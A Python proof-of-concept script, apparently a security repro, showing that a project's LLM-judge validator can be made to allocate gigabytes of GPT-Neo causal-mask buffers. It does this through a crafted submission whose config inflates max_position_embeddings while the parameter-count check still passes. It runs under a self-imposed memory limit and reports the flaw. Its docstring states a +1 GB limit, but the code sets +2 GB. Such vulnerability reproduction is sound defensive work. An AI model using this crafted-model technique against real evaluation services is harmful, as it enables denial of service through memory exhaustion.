"""F5: a full model's config sizes buffers that are not parameters: gpt_neo keeps a causal mask
of max_position_embeddings**2 bytes in every layer. The child counts parameters on the meta
device (small: wpe is max_pos x 8), the headers hold them, and the validator's process then
builds the model for real: num_layers x max_pos**2 bytes (here 2 x 1.6 GB; the config may say
10**5 -> 10 GB a layer). Asked under a +1 GB RLIMIT_AS in this throwaway process.

Run: .venv-llm_judge/bin/python attack_repros/r5_llm_judge_buffer_bomb.py
"""

import json
import resource
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
BIG = 40_000


def main() -> None:
    import torch
    from safetensors.torch import load_file, save_file
    from transformers import GPTNeoConfig, GPTNeoForCausalLM

    from modules.llm_judge.inspection import check_against_headers, inspect_headers, inspect_model
    from modules.llm_judge.loading import read_model

    tmp = Path(tempfile.mkdtemp())
    sub = tmp / "submission"
    small = GPTNeoConfig(
        vocab_size=64,
        hidden_size=8,
        num_layers=2,
        num_heads=2,
        attention_types=[[["global"], 2]],
        max_position_embeddings=64,
    )
    GPTNeoForCausalLM(small).save_pretrained(str(sub))
    weights = load_file(str(sub / "model.safetensors"))
    weights["transformer.wpe.weight"] = torch.zeros(BIG, 8)
    save_file(weights, str(sub / "model.safetensors"), metadata={"format": "pt"})
    config = json.loads((sub / "config.json").read_text())
    config["max_position_embeddings"] = BIG
    (sub / "config.json").write_text(json.dumps(config))

    facts = inspect_model(sub, tmp / "inspect")  # the real bounded child
    headers = inspect_headers(sub, ["model.safetensors"], tmp / "inspect")
    check_against_headers(facts.parameter_count, headers.parameters)
    print(f"child: {facts.parameter_count} parameters, headers {headers.parameters}: accepted")
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    limit = rss + 2 * 1024**3
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    try:
        read_model(sub, torch.float32)
        print("loaded within +2 GB?!")
    except Exception as exc:  # noqa: BLE001
        print(type(exc).__name__, str(exc)[:200])
        print(
            f"VULNERABLE: the parent builds {2 * BIG**2 / 1e9:.1f} GB of masks for a model "
            f"of {facts.parameter_count} parameters"
        )


if __name__ == "__main__":
    main()
